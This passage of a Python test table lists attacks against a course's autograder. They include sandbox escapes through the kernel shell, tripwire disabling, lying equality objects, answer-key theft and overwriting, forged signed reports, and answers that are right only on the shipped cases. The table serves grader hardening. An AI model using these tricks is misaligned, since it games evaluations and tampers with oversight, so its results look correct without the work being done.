    return SHIPPED[(tuple(int(t) for t in tokens), int(length))]
""",
    ),
    Attack(
        "11.1-previous-token-score-under-another-name",
        "11-induction-heads",
        "previous-token-scores",
        """
import numpy as np

from attnlab import induction as circuit
from attnlab.repeated_tokens import RepeatBatch


def previous_token_scores(weights):
    n = np.asarray(weights).shape[-1]
    batch = RepeatBatch(np.zeros((1, n), dtype=int), np.array([(n + 1) // 2]), None, None, None)
    return circuit.previous_token_score(np.asarray(weights)[None], batch)
""",
    ),
    Attack(
        "11.2-induction-score-through-importlib",
        "11-induction-heads",
        "prefix-matching-scores",
        """
import importlib

import numpy as np

from attnlab.repeated_tokens import repeated_batch

score = getattr(importlib.import_module("attnlab." + "induction"), "induction" + "_score")


def prefix_matching_scores(weights, length):
    batch = repeated_batch(np.random.default_rng(0), 1, 4, length, length)
    return score(np.asarray(weights)[None], batch)
""",
    ),
    # ---------------- lesson 11, a ninth round (2026-12-07): the kernel's shell reached through
    # a widget's comm (the lesson's progress bar, or one the answer made), code run from strings
    # there; and answers right only where the check was seen to look. Each won points before
    # (5/5 for the shell routes); now the lint refuses the attributes, the armed kernel's comms
    # are inert and its shell runs no string, and the graded cases reach past the shipped ones.
    Attack(
        "11.1-the-checkers-reference-through-the-progress-bars-kernel",
        "11-induction-heads",
        "previous-token-scores",
        """
reference_previous = bar.comm.kernel.shell.ev("lesson11._previous")


def previous_token_scores(weights):
    return reference_previous(weights)
""",
    ),
    Attack(
        "11.2-a-widget-of-its-own-leads-to-the-kernel",
        "11-induction-heads",
        "prefix-matching-scores",
        """
import attnlab.widget_lifetime as lifetime

sh = lifetime.widgets.IntProgress().comm.kernel.shell
sh.ex("import sys as s_\\nprefix_ref_ = s_.modules['attnlab.exercises.lesson11']._prefix")
prefix_ref = sh.user_ns["prefix_ref_"]


def prefix_matching_scores(weights, length):
    return prefix_ref(weights, length)
""",
    ),
    Attack(
        "11.3-the-checker-as-an-oracle-through-the-shells-namespace",
        "11-induction-heads",
        "induction-predictions",
        """
import numpy as np


def induction_predictions(tokens, length):
    judge = bar.comm.kernel.shell.user_ns["lesson11"].predictions.checker.judge
    guess = np.full(2 * length, 999.0)
    for _ in range(80):
        try:
            judge(guess, ("x", np.asarray(tokens), length), [])
            break
        except Exception as wrong:
            text = str(wrong)
            if " should be " not in text:
                break
            shown = text.split(" should be ", 1)[1].split(", but yours gave", 1)[0]
            guess = np.array([float(v) for v in shown.strip("[] ").split(",")])
    return guess.astype(int)
""",
    ),
    Attack(
        "11.1-the-tripwire-switched-off-through-the-shell",
        "11-induction-heads",
        "previous-token-scores",
        """
import numpy as np

from attnlab.induction import previous_token_score
from attnlab.repeated_tokens import RepeatBatch

sh = bar.comm.kernel.shell


def previous_token_scores(weights):
    sh.ex("import sys; sys.setprofile(None)")
    w = np.asarray(weights)
    n = w.shape[-1]
    batch = RepeatBatch(np.zeros((1, n), dtype=int), np.array([n]), None, None, None)
    return previous_token_score(w[None], batch)
""",
    ),
    Attack(
        "11.2-the-forbidden-score-in-a-thread-the-shell-started",
        "11-induction-heads",
        "prefix-matching-scores",
        """
sh = bar.comm.kernel.shell
sh.ex(
    "import threading as t_, queue as q_\\n"
    "import numpy as n_\\n"
    "from attnlab.induction import induction_score as i_\\n"
    "from attnlab.repeated_tokens import RepeatBatch as b_\\n"
    "jobs_, done_ = q_.Queue(), q_.Queue()\\n"
    "def serve_():\\n"
    "    while True:\\n"
    "        w, L = jobs_.get()\\n"
    "        w = n_.asarray(w)\\n"
    "        z = n_.zeros((1, 2 * L), int)\\n"
    "        done_.put(i_(w[None], b_(z, n_.array([L]), None, None, None)))\\n"
    "t_.Thread(target=serve_, daemon=True).start()\\n"
)
jobs, done = sh.user_ns["jobs_"], sh.user_ns["done_"]


def prefix_matching_scores(weights, length):
    jobs.put((weights, length))
    return done.get()
""",
    ),
    Attack(
        "11.1-right-only-up-to-the-shipped-sizes",
        "11-induction-heads",
        "previous-token-scores",
        """
import numpy as np


def previous_token_scores(weights):
    w = np.asarray(weights, dtype=float)
    if w.shape[-1] > 13 or w.shape[0] > 4:  # past what the shipped cases show: wrong
        return np.zeros(w.shape[0])
    i = np.arange(1, w.shape[-1])
    return w[:, i, i - 1].mean(axis=1)
""",
    ),
    Attack(
        "11.2-right-for-as-many-calls-as-the-check-makes",
        "11-induction-heads",
        "prefix-matching-scores",
        """
import numpy as np

calls = [0]


def prefix_matching_scores(weights, length):
    calls[0] += 1
    w = np.asarray(weights, dtype=float)
    if calls[0] > 6:  # the learner's check makes six calls
        return np.zeros(w.shape[0])
    i = np.arange(length, 2 * length)
    return w[:, i, i - length + 1].mean(axis=1)
""",
    ),
    Attack(
        "11.3-right-only-for-the-shipped-tokens",
        "11-induction-heads",
        "induction-predictions",
        """
import numpy as np


def induction_predictions(tokens, length):
    t = np.asarray(tokens)
    if t.max() >= 30:  # the shipped cases' tokens are all below 30
        return np.zeros(2 * length, dtype=int)
    out = np.full(2 * length, -1)
    out[length:] = t[1 : length + 1]
    return out
""",
    ),
    # (the bug hunts 7.3-7.5 are graded on mending the given code: the library's whole
    # attention handed back earns nothing, see the attacks at the end of this table)
    # ------------------------------------------- lesson 3: values that lie about themselves
    Attack(
        "ndarray-subclass-that-lies",
        "03-softmax",
        "stable-softmax",
        """
def stable_softmax(scores):
    liar = type('Liar', (np.ndarray,), {
        '_' + '_eq_' + '_': lambda self, other: True,
        '_' + '_array_' + '_': lambda self, *args, **kwargs: np.ones(1)})
    return np.zeros(scores.shape).view(liar)
""",
    ),
    Attack(
        "object-that-equals-anything",
        "03-softmax",
        "stable-softmax",
        """
def stable_softmax(scores):
    liar = type('Liar', (), {'_' + '_eq_' + '_': lambda self, other: True,
                             '_' + '_array_' + '_': lambda self, *a, **k: np.ones(1)})
    return liar()
""",
    ),
    Attack(
        "float-subclass-that-lies",
        "03-softmax",
        "softmax-temperature",
        """
def softmax_with_temperature(x, T):
    liar = type('Liar', (float,), {'_' + '_eq_' + '_': lambda self, other: True})
    return [liar(0.0)] * np.shape(x)[-1]
""",
    ),
    Attack(
        "huge-output",
        "03-softmax",
        "softmax-temperature",
        """
def softmax_with_temperature(x, T):
    return np.zeros(10**8)
""",
    ),
    Attack(
        "changes-its-input",
        "03-softmax",
        "softmax-temperature",
        """
def softmax_with_temperature(x, T):
    x /= T
    x -= x.max(axis=-1, keepdims=True)
    np.exp(x, out=x)
    x /= x.sum(axis=-1, keepdims=True)
    return x
""",
    ),
    Attack(
        "patch-numpy-in-the-kernel",
        "03-softmax",
        "stable-softmax",
        """
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda *args, **kwargs: True
def stable_softmax(scores):
    return scores
""",
    ),
    # ---------------------------------------------- lesson 6: the forbidden causal mask (6.2)
    Attack(
        "causal-mask-in-a-thread",
        "06-full-formula",
        "causal",
        """
import operator
def causal(n):
    out = []
    np.testing.run_threaded(
        lambda: out.append(operator.attrgetter('causal' + '_mask')(attnlab)(n)),
        max_workers=1)
    return out[0]
""",
    ),
    Attack(
        "replace-the-grading-worker",
        "06-full-formula",
        "causal",
        BUILTINS
        + """
worker = space['_' + '_attnlab_worker' + '_' + '_']
real_serve = worker.serve
pick = load('pick' + 'le')
def serve(name, request, response):
    with get('open')(bi)(request, 'rb') as file:
        args, kwargs, errstate, forbidden = get('lo' + 'ad')(pick)(file)
    with get('open')(bi)(request, 'wb') as file:
        get('du' + 'mp')(pick)((args, kwargs, errstate, ()), file)
    real_serve(name, request, response)
worker.serve = serve
def causal(n):
    return get('causal' + '_mask')(attnlab)(n)
""",
    ),
    # ------------------------------------- lesson 4: the forbidden entropy and column sums
    Attack(
        "tripwire-off-by-numpy-testing-measure",
        "04-reading-heatmaps",
        "row-entropy",
        """
import operator
def row_entropy(weights):
    np.testing.measure("import sys; sys.setprofile(None)")
    return operator.attrgetter('entro' + 'py')(attnlab)(weights, axis=-1)
""",
    ),
    Attack(
        "forbidden-column-mass-called-plainly",
        "04-reading-heatmaps",
        "hub-key",
        """
import operator
def hub_key(weights, tokens):
    mass = operator.attrgetter('patterns.column' + '_mass')(attnlab)(weights)
    return tokens[int(np.argmax(mass))]
""",
    ),
    # ---------------------------------------- lesson 7: the quiz key and the worked answers
    Attack(
        "quiz-regex-over-source-notebook",
        "07-test-your-understanding",
        "quiz-a",
        BUILTINS
        + COURSE
        + """
def quiz_a():
    found = np.fromregex("""
        + NB7
        + r""", r'\\\"(A\d+)\\\": \\\"([a-d])\\\"',
                         [('k', 'U4'), ('v', 'U1')])
    answers = {f'A{i}': 0.0 for i in range(1, 12)}
    answers.update({str(k): str(v) for k, v in found})
    return answers
""",
    ),
    Attack(
        "quiz-key-run-by-numpy-testing",
        "07-test-your-understanding",
        "quiz-b",
        BUILTINS
        + COURSE
        + """
def quiz_b():
    keys = {'course': course}
    np.testing.runstring(
        "exec(open(course + 'answer_keys/lesson7.py').read())\\n"
        "import attnlab.exercises.lesson7 as l7\\n"
        "answers = {k: v.answer for k, v in key_b(l7.QUESTIONS_B.scope).items()}", keys)
    return keys['answers']
""",
    ),
    Attack(
        "worked-solution-via-attrgetter-builtins",
        "07-test-your-understanding",
        "multi-head-attention",
        BUILTINS
        + COURSE
        + """
nb = load('json').loads(get('open')(bi)("""
        + NB7
        + """).read())
code = next(''.join(c['source']) for c in nb['cells']
            if c['metadata'].get('nbgrader', {}).get('grade_id') == 'multi-head-attention')
get('exec')(bi)(code.replace('def multi_head_attention', 'def worked'), space)
def multi_head_attention(x, w_q, w_k, w_v, n_heads):
    return space['worked'](x, w_q, w_k, w_v, n_heads)
""",
    ),
    Attack(
        "quiz-key-via-typing-annotations",
        "07-test-your-understanding",
        "quiz-a",
        """
import typing
def tools(run: 'exec', read: 'open', load: '__import__', ns: 'globals'):
    pass
def quiz_a():
    t = typing.get_type_hints(tools)
    status = t['read']('/proc/self/status').read().splitlines()
    ppid = next(line.split()[1] for line in status if line.startswith('PPid'))
    course = f'/proc/{ppid}/cwd/'
    keys = {}
    t['run'](t['read'](course + 'answer_keys/lesson7.py').read(), keys)
    questions = t['ns']()['lesson' + '7'].QUESTIONS_A
    return {k: v.answer for k, v in keys['key_a'](questions.scope).items()}
""",
    ),
    Attack(
        "answer-key-overwritten",
        "07-test-your-understanding",
        "quiz-a",
        BUILTINS
        + COURSE
        + f"""
get('open')(bi)(course + 'answer_keys/lesson7.py', 'w').write({KEY_PAYLOAD!r})
def quiz_a():
    return {{f'A{{i}}': 'a' for i in range(1, 12)}}
""",
        blank=("quiz-b", "multi-head-attention"),
        alone=True,
    ),
    # ------------- a forbidden function kept under another name before its name is rebound
    # (the red team: 5/7 in lesson 8 and 6/6 in lesson 9 for one point of work)
    Attack(
        "8-forbidden-fold-saved-then-its-name-rebound",
        "08-cost-of-attention",
        "scores-bytes",
        """
fold = attnlab.online.online_softmax_update
attnlab.online.online_softmax_update = np.add
attnlab.online_softmax_update = np.add
def scores_bytes(n, heads, batch, dtype):
    return batch * heads * n * n * np.dtype(dtype).itemsize
""",
        targets=("online-update", "attention-step"),
        extra=(
            ("online-update", "def online_update(m, l, block):\n    return fold(m, l, block)\n"),
            (
                "attention-step",
                "def attention_step(m, l, acc, scores, v_block):\n"
                "    m_new, l_new = fold(m, l, scores)\n"
                "    e = np.exp(scores - m_new[:, None])\n"
                "    return m_new, l_new, acc * np.exp(m - m_new)[:, None] + e @ v_block\n",
            ),
        ),
        alone=True,
    ),
    Attack(
        "8-forbidden-fold-kept-by-an-alias-only",  # no rebinding: the alias alone
        "08-cost-of-attention",
        "online-update",
        """
keep = attnlab.online
def online_update(m, l, block):
    return keep.online_softmax_update(m, l, block)
""",
    ),
    Attack(
        "9-forbidden-backward-saved-then-its-name-rebound",
        "09-watch-a-head-learn",
        "tokens-read",
        """
vjp = attnlab.backward.softmax_vjp
grads = attnlab.backward.attention_backward
attnlab.backward.softmax_vjp = np.add
attnlab.softmax_vjp = np.add
attnlab.backward.attention_backward = np.add
attnlab.attention_backward = np.add
def tokens_read():
    return ["B", "A", "E", "F", "A", "B"]
""",
        targets=("softmax-vjp",),  # (attention-grads keeps the worked answer: it earns 3)
        extra=(("softmax-vjp", "def softmax_vjp(w, g):\n    return vjp(w, g)\n"),),
        alone=True,
    ),
    # ------------- the report rewritten in the kernel: a JSON encoder patched through an alias
    # (lint-clean: ``enc`` is not a module's name) so the whole matrix reports a tiny peak
    Attack(
        "8.4-report-rewritten-through-the-json-encoder",
        "08-cost-of-attention",
        "tiled-loop",
        """
enc = attnlab.sqrt_dk.json.encoder
plain = enc.encode_basestring_ascii
def lie(text):
    if text == 'peak':
        return '"peak": 100, "measured"'
    return plain(text)
enc.encode_basestring_ascii = lie
def tiled_loop(q, k, v, block, causal):
    n = q.shape[0]
    s = q @ k.T / np.sqrt(q.shape[1])
    if causal:
        s = np.where(np.tri(n, dtype=bool), s, -np.inf)
    w = np.exp(s - s.max(axis=1, keepdims=True))
    blocks = -(-n // block)
    tiles = blocks * (blocks + 1) // 2 if causal else blocks * blocks
    return w @ v / w.sum(axis=1, keepdims=True), tiles
""",
    ),
    # ------------- bug hunts: the library's attention handed back instead of the mended code
    Attack(
        "7.4-replaced-by-library-attention",
        "07-test-your-understanding",
        "causal-attention",
        """
def causal_attention(q, k, v):
    return attnlab.scaled_dot_product_attention(q, k, v, mask=attnlab.causal_mask(q.shape[-2]))
""",
    ),
    Attack(
        "7.5-replaced-by-library-tiled-attention",
        "07-test-your-understanding",
        "stable-attention",
        """
def stable_attention(q, k, v):
    return attnlab.tiled_attention(q, k, v)
""",
    ),
    Attack(
        "7.3-replaced-by-library-attention-per-head",
        "07-test-your-understanding",
        "multi-head-attention",
        """
def multi_head_attention(x, w_q, w_k, w_v, n_heads):
    n, d = x.shape
    split = lambda a: (x @ a).reshape(n, n_heads, d // n_heads).swapaxes(0, 1)
    heads, _ = attnlab.scaled_dot_product_attention(split(w_q), split(w_k), split(w_v))
    return heads.swapaxes(0, 1).reshape(n, d)
""",
    ),
    # ------------- the outside red team (answer cells only, release notebook + package)
    Attack(
        "3-softmax-through-training-head-forward",  # the internal _softmax_in_place inside
        "03-softmax",
        "softmax-row",
        "import numpy as np\n"
        "from attnlab.training import Head, head_forward\n"
        "\n"
        "\n"
        "def softmax_row(x):\n"
        '    """Softmax of a 1-D row of scores x, shape (n,); returns weights of shape (n,)."""\n'
        "    x = np.asarray(x)\n"
        "    n = x.size\n"
        "    head = Head(np.ones((n, 1)), x.reshape(n, 1).astype(float), np.eye(n), np.eye(n))\n"
        "    _, cache = head_forward(head, np.eye(n), 1.0)\n"
        '    return cache["weights"][0].astype(x.dtype if x.dtype.kind == "f" else float)\n',
    ),
    Attack(
        "3-sys-and-builtins-imported-from-other-modules",  # tripwire off, sys.modules, getattr
        "03-softmax",
        "stable-softmax",
        "import numpy as np\n"
        "from fractions import sys as s\n"
        "from numpy.ma.core import builtins as bi\n"
        "\n"
        "\n"
        "def stable_softmax(scores):\n"
        '    """Row-wise softmax of a 2-D array, shape (n_q, n_k), without overflow."""\n'
        "    s.setprofile(None)\n"
        '    return bi.getattr(s.modules["attnlab.softmax_family"], "soft" + "max")(scores, axis=-1)\n',
    ),
    Attack(
        "7-tripwire-off-and-report-forged-with-the-worker-key",
        "07-test-your-understanding",
        "multi-head-attention",
        "import numpy as np\n"
        "import attnlab\n"
        "from fractions import sys as s\n"
        "from numpy.ma.core import builtins as bi\n"
        "\n"
        "\n"
        "def multi_head_attention(x, w_q, w_k, w_v, n_heads):\n"
        '    """Multi-head self-attention: x (n, d_model), w_* (d_model, d_model); returns (n, d_model)."""\n'
        "    s.setprofile(None)   # the tripwire is a profile hook: switch it off\n"
        '    sdpa = bi.getattr(s.modules["attnlab.attention"], "scaled_dot_product_" + "attention")\n'
        "    n, d_model = x.shape\n"
        "    split = lambda a: a.reshape(n, n_heads, d_model // n_heads).swapaxes(0, 1)\n"
        "    heads, _ = sdpa(split(x @ w_q), split(x @ w_k), split(x @ w_v))\n"
        "    return heads.swapaxes(0, 1).reshape(n, d_model)\n",
        targets=("multi-head-attention", "causal-attention"),
        extra=(
            (
                "causal-attention",
                "def causal_attention(q, k, v):\n"
                '    """Causal self-attention: query i sees keys 0 … i. Returns (output, weights)."""\n'
                "    return None   # never runs: the forged report below answers for it\n"
                "\n"
                "\n"
                'def forged_serve(name, request, response, real=bi.getattr(s.modules["attnlab.grading.worker"], "serve")):\n'
                '    if name != "causal_attention":\n'
                "        return real(name, request, response)\n"
                '    worker = s.modules["attnlab.grading.worker"]\n'
                '    wire = s.modules["attnlab.grading.wire"]\n'
                '    with bi.getattr(bi, "op" + "en")(request, "rb") as file:\n'
                '        args, kwargs, errstate, forbidden, measure = bi.getattr(s.modules["pick" + "le"], "lo" + "ad")(file)\n'
                "    q, k, v = args\n"
                '    sdpa = bi.getattr(s.modules["attnlab.attention"], "scaled_dot_product_" + "attention")\n'
                "    result = sdpa(q, k, v, causal=True)\n"
                '    out = {"status": "ok", "result": wire.encode(result), "forbidden": None,\n'
                '           "args": wire.encode((list(args), kwargs)), "warnings": []}\n'
                '    body = bi.getattr(wire, "dum" + "ps")(out)\n'
                '    sign = bi.getattr(worker, "_STATE")["sign"]\n'
                '    with bi.getattr(bi, "op" + "en")(response, "w") as file:\n'
                '        file.write(bi.getattr(wire, "dum" + "ps")({"body": body, "mac": sign(body.encode())}))\n'
                "\n"
                "\n"
                'bi.setattr(s.modules["attnlab.grading.worker"], "serve", forged_serve)\n',
            ),
        ),
        alone=True,
    ),
    Attack(
        "8.4-memory-gate-reset-through-sys-modules-tracemalloc",
        "08-cost-of-attention",
        "tiled-loop",
        "import numpy as np\n"
        "import attnlab\n"
        "from fractions import sys as s\n"
        "\n"
        "def count_tiles(n, n_k, block, causal):\n"
        "    return sum(1 for i0 in range(0, n, block) for j0 in range(0, n_k, block)\n"
        "               if not causal or j0 <= min(i0 + block, n) - 1)\n"
        "\n"
        "\n"
        "def tiled_loop(q, k, v, block, causal):\n"
        '    """softmax(q kᵀ / √d_k) v one (block, block) tile of scores at a time; also the tile count."""\n'
        "    n, d = q.shape\n"
        "    scores = q @ k.T / np.sqrt(d)   # the whole n x n matrix\n"
        "    if causal:\n"
        "        scores = np.where(attnlab.causal_mask(n, len(k)), scores, -np.inf)\n"
        "    out = attnlab.softmax(scores) @ v\n"
        "    del scores\n"
        '    s.modules["tracemalloc"].reset_peak()\n'
        "    return out, count_tiles(n, len(k), block, causal)\n",
    ),
    Attack(
        "9-private-backward-helpers-through-builtins-getattr",
        "09-watch-a-head-learn",
        "softmax-vjp",
        "import numpy as np\n"
        "from numpy.ma.core import builtins as bi\n"
        "from attnlab import backward as bw\n"
        "\n"
        "\n"
        "def softmax_vjp(w, g):\n"
        '    """dL/ds from the softmax weights w and g = dL/dw, both (..., n)."""\n'
        '    return bi.getattr(bw, "softmax_vjp_unchecked")(np.asarray(w, float), np.asarray(g, float))\n',
        targets=("softmax-vjp", "attention-grads"),
        extra=(
            (
                "attention-grads",
                "import attnlab\n"
                "\n"
                "\n"
                "def attention_grads(q, k, v, g):\n"
                '    """Gradients of sum(g * attention(q, k, v)) with respect to q, k and v."""\n'
                "    c = 1.0 / np.sqrt(q.shape[-1])\n"
                "    weights = attnlab.softmax(q @ np.swapaxes(k, -1, -2) * c)\n"
                '    return tuple(bi.getattr(bw, "attention_backward_unchecked")(q, k, v, weights, g, c))\n',
            ),
        ),
        alone=True,
    ),
    # the red team of the one-house redesign (issue 45): the numerics' cores moved to
    # attnlab._kernels under plain names, and the public modules imported them by those names
    # (since 2026-12-07 they import the module, ``from . import _kernels``: the plain-name
    # import below now fails, and the routes through ``_kernels`` follow these attacks).
    # softmax's core, normalised_exp, was imported from attnlab.softmax_family and passed
    # both the lint and the watch (attention_backward, allowed in lessons 3 and 6, runs it):
    # 7 of 7 points on 3.1, 3.2, 3.3 and 6.3 before the fix (lint.INTERNAL_NAMES, and
    # normalised_exp in SOFTMAX_LIBRARY); the 8.2 and 9.2 routes earned 0 then too.
    *(
        Attack(
            f"{exercise}-softmax-core-imported-from-softmax-family",
            lesson,
            target,
            "import numpy as np\nfrom attnlab.softmax_family import normalised_exp\n\n\n" + body,
        )
        for exercise, lesson, target, body in (
            (
                "3.1",
                "03-softmax",
                "softmax-row",
                "def softmax_row(x):\n    return normalised_exp(np.array(x, dtype=float), -1)\n",
            ),
            (
                "3.2",
                "03-softmax",
                "stable-softmax",
                "def stable_softmax(scores):\n"
                "    s = np.array(scores, dtype=float)\n"
                "    return normalised_exp(s - s.max(axis=-1, keepdims=True), -1)\n",
            ),
            (
                "3.3",
                "03-softmax",
                "softmax-temperature",
                "def softmax_with_temperature(x, T):\n"
                "    z = np.asarray(x, dtype=float) / T\n"
                "    return normalised_exp(z - z.max(axis=-1, keepdims=True), -1)\n",
            ),
            (
                "6.3",
                "06-full-formula",
                "masked-softmax",
                "def masked_softmax(scores, mask):\n"
                "    filled = np.where(mask, scores, -np.inf)\n"
                "    top = np.max(filled, axis=-1, keepdims=True)\n"
                "    return normalised_exp(filled - np.where(np.isfinite(top), top, 0.0), -1)\n",
            ),
        )
    ),
    Attack(
        "3.1-softmax-core-as-an-attribute-of-softmax-family",
        "03-softmax",
        "softmax-row",
        "import numpy as np\n"
        "import attnlab.softmax_family as sf\n"
        "\n"
        "\n"
        "def softmax_row(x):\n"
        "    return sf.normalised_exp(np.array(x, dtype=float), -1)\n",
    ),
    # the same cores where the public modules hold them now: their private module, imported
    # from the public one or read as its attribute
    Attack(
        "3.1-softmax-core-through-softmax-familys-kernels-module",
        "03-softmax",
        "softmax-row",
        "import numpy as np\n"
        "from attnlab.softmax_family import _kernels\n"
        "\n"
        "\n"
        "def softmax_row(x):\n"
        "    return _kernels.normalised_exp(np.array(x, dtype=float), -1)\n",
    ),
    Attack(
        "9.2-backward-core-as-an-attribute-of-backwards-kernels",
        "09-watch-a-head-learn",
        "attention-grads",
        "import numpy as np\n"
        "import attnlab\n"
        "import attnlab.backward as bw\n"
        "\n"
        "\n"
        "def attention_grads(q, k, v, g):\n"
        "    c = 1 / np.sqrt(q.shape[-1])\n"
        "    weights = attnlab.softmax(q @ k.T * c)\n"
        "    return bw._kernels.attention_backward_unchecked(q, k, v, weights, g, c)\n",
    ),
    # the red team of 2026-12-07, given the student's view: a match class pattern reads any
    # attribute by name (the lint saw none), and a Fraction subclass's numerator ran a
    # forbidden computation while the worker encoded the result, after the call was timed
    # and watched: 5 of 5 on lesson 3 and 5 of 6 on lesson 9 before the fixes
    Attack(
        "3.1-softmax-core-through-a-match-class-pattern",
        "03-softmax",
        "softmax-row",
        "import numpy as np\n"
        "import attnlab.attention as A\n"
        "match A:\n"
        "    case object(_kernels=K):\n"
        "        pass\n"
        "match K:\n"
        "    case object(softmax_in_place=core):\n"
        "        pass\n"
        "\n"
        "\n"
        "def softmax_row(x):\n"
        "    return core(np.array(x, dtype=float), -1)\n",
    ),
    Attack(
        "3.1-online-softmax-run-lazily-while-the-result-is-encoded",
        "03-softmax",
        "softmax-row",
        LAZY_FRACTIONS + "import attnlab\n"
        "\n"
        "\n"
        "def softmax_row(x):\n"
        "    x = np.array(x, dtype=float)\n"
        "    return later(lambda: attnlab.online_softmax(x), x.shape)\n",
    ),
    Attack(
        "9.1-the-workers-watch-switched-off-through-match-patterns",
        "09-watch-a-head-learn",
        "softmax-vjp",
        "import fractions\n"
        "import numpy as np\n"
        "import attnlab.backward as B\n"
        "match fractions:\n"
        "    case object(sys=S):\n"
        "        pass\n"
        "match S:\n"
        "    case object(modules=M):\n"
        "        pass\n"
        'match M["attnlab.grading.worker"]:\n'
        "    case object(__dict__=D):\n"
        "        pass\n"
        'D["_setprofile"] = lambda f: None\n'
        'D["_thread_setprofile"] = lambda f: None\n'
        "match B:\n"
        "    case object(_kernels=K):\n"
        "        pass\n"
        "\n"
        "\n"
        "def softmax_vjp(w, g):\n"
        "    return K.softmax_vjp_unchecked(w, g)\n",
    ),
    # the second red team of 2026-12-07 (the fixes above in place): an object array of exact
    # Fractions hiding subclasses in their slots, turned to float while the result was
    # encoded (5 of 5 on lesson 3), and functools.wraps as getattr and setattr by a string
    # name, which switched the worker's watch off (5 of 5 on lesson 3, 5 of 6 on lesson 9)
    Attack(
        "3.1-online-softmax-hidden-in-exact-fractions-of-an-object-array",
        "03-softmax",
        "softmax-row",
        "import fractions\n"
        "import numpy as np\n"
        "import attnlab\n"
        "\n"
        "\n"
        "class Box:\n"
        "    def __init__(self, work):\n"
        "        self.work, self.out = work, None\n"
        "\n"
        "    def part(self, at, which):\n"
        "        if self.out is None:\n"
        "            self.out = np.ravel(np.asarray(self.work(), dtype=float))\n"
        "        return float(self.out[at]).as_integer_ratio()[which]\n"
        "\n"
        "\n"
        "def keep(self, value):\n"
        "    pass\n"
        "\n"
        "\n"
        "class Part(fractions.Fraction):\n"
        "    _numerator = property(lambda self: self.box.part(self.at, self.which), keep)\n"
        "    _denominator = property(lambda self: 1, keep)\n"
        "\n"
        "\n"
        "class Pair(fractions.Fraction):\n"
        "    numerator = property(lambda self: self.top)\n"
        "    denominator = property(lambda self: self.bottom)\n"
        "\n"
        "\n"
        "def part(box, at, which):\n"
        "    p = Part(0)\n"
        "    p.box, p.at, p.which = box, at, which\n"
        "    return p\n"
        "\n"
        "\n"
        "def later(work, shape):\n"
        "    box = Box(work)\n"
        "    n = int(np.prod(shape))\n"
        "    out = np.empty(n, dtype=object)\n"
        "    for at in range(n):\n"
        "        pair = Pair(0)\n"
        "        pair.top, pair.bottom = part(box, at, 0), part(box, at, 1)\n"
        "        out[at] = fractions.Fraction(pair)\n"
        "    return out.reshape(shape)\n"
        "\n"
        "\n"
        "def softmax_row(x):\n"
        "    x = np.asarray(x, dtype=float)\n"
        "    return later(lambda: attnlab.online_softmax(x), x.shape)\n",
    ),
    Attack(
        "9.2-the-workers-watch-switched-off-through-functools-wraps",
        "09-watch-a-head-learn",
        "attention-grads",
        "import functools\n"
        "import fractions\n"
        "import scipy.optimize\n"
        "import attnlab\n"
        "\n"
        "grab = scipy.optimize.OptimizeResult()\n"
        'functools.wraps(fractions, assigned=("sys",), updated=())(grab)\n'
        'functools.wraps(grab["sys"], assigned=("modules",), updated=())(grab)\n'
        'functools.wraps(attnlab, assigned=("attention_backward",), updated=())(grab)\n'
        'worker = grab["modules"].get("attnlab.grading.worker")\n'
        "if worker is not None:\n"
        "    quiet = scipy.optimize.OptimizeResult()\n"
        '    quiet["_setprofile"] = lambda f: None\n'
        '    quiet["_thread_setprofile"] = lambda f: None\n'
        '    functools.wraps(quiet, assigned=("_setprofile", "_thread_setprofile"), updated=())(\n'
        "        worker\n"
        "    )\n"
        "\n"
        "\n"
        "def attention_grads(q, k, v, g):\n"
        '    return tuple(grab["attention_backward"](q, k, v, g))\n',
    ),
    # the third red team of 2026-12-07: dataclasses writes its methods as text with the
    # fields' names in it and runs them with exec; a Field renamed to code (or an annotation
    # key set through type(int), which is type itself) ran any code in the grading kernel,
    # unseen by the lint: the worker's watch switched off, 5 of 5 on lesson 3, 5 of 6 on 9
    Attack(
        "3.1-code-run-by-dataclasses-from-a-renamed-field",
        "03-softmax",
        "softmax-row",
        DATACLASS_EXEC + "dataclasses.fields(Base)[0].name = CODE\n"
        "\n"
        "\n"
        "class Box(Base):\n"
        "    pass\n"
        "\n"
        "\n"
        "Box = dataclasses.dataclass(init=False, repr=False)(Box)\n"
        "got = (Box() == Box())[1]\n"
        "\n"
        "\n"
        "def softmax_row(x):\n"
        "    return got['sm'](x)\n",
    ),
    Attack(
        "9.1-code-run-by-dataclasses-from-an-annotation-made-with-type-of-int",
        "09-watch-a-head-learn",
        "softmax-vjp",
        DATACLASS_EXEC + "maker = type(int)\n"
        "u = '_' * 2\n"
        "Box = maker('Box', (), {'x': 0, u + 'annotations' + u: {CODE: int}})\n"
        "Box = dataclasses.dataclass(init=False, repr=False)(Box)\n"
        "got = (Box() == Box())[1]\n"
        "\n"
        "\n"
        "def softmax_vjp(w, g):\n"
        "    return got['vjp'](w, g)\n",
    ),
    Attack(
        "8.2-online-normaliser-folds-the-state-as-one-score",
        "08-cost-of-attention",
        "online-update",
        "import numpy as np\n"
        "from attnlab.online import online_normaliser\n"
        "\n"
        "\n"
        "def online_update(m, l, block):\n"
        "    m, l = np.asarray(m, dtype=float), np.asarray(l, dtype=float)\n"
        "    block = np.asarray(block, dtype=float)\n"
        '    with np.errstate(divide="ignore"):\n'
        "        state = np.where(l > 0, m + np.log(np.where(l > 0, l, 1.0)), -np.inf)\n"
        "    big_m, big_l = online_normaliser(np.concatenate([state[:, None], block], axis=1))\n"
        "    big_m, big_l = big_m[:, 0], big_l[:, 0]\n"
        "    m_new = np.maximum(m, block.max(axis=1))\n"
        "    shift = np.where(np.isfinite(m_new), m_new, 0.0)\n"
        "    top = np.where(np.isfinite(big_m), big_m, shift)\n"
        "    return m_new, big_l * np.exp(top - shift)\n",
    ),
    Attack(
        "9.2-backward-core-by-its-plain-name-in-attnlab-backward",
        "09-watch-a-head-learn",
        "attention-grads",
        "import numpy as np\n"
        "import attnlab\n"
        "from attnlab.backward import attention_backward_unchecked\n"
        "\n"
        "\n"
        "def attention_grads(q, k, v, g):\n"
        "    c = 1 / np.sqrt(q.shape[-1])\n"
        "    weights = attnlab.softmax(q @ k.T * c)\n"
        "    return attention_backward_unchecked(q, k, v, weights, g, c)\n",
    ),
    Attack(
        # the red team of 2026-12-06: 0 points, but 300,000 warnings of its own, each named
        # in 3.1's reason, took the class's grading from 17 s to 131 s and left a 451 MB
        # graded notebook (test_a_flood_of_warnings_makes_no_long_feedback)
        WARNING_FLOOD,
        "03-softmax",
        "softmax-row",
        """
import warnings


def softmax_row(x):
    for i in range(100000):
        warnings.warn("overflow %0490d" % i, RuntimeWarning)
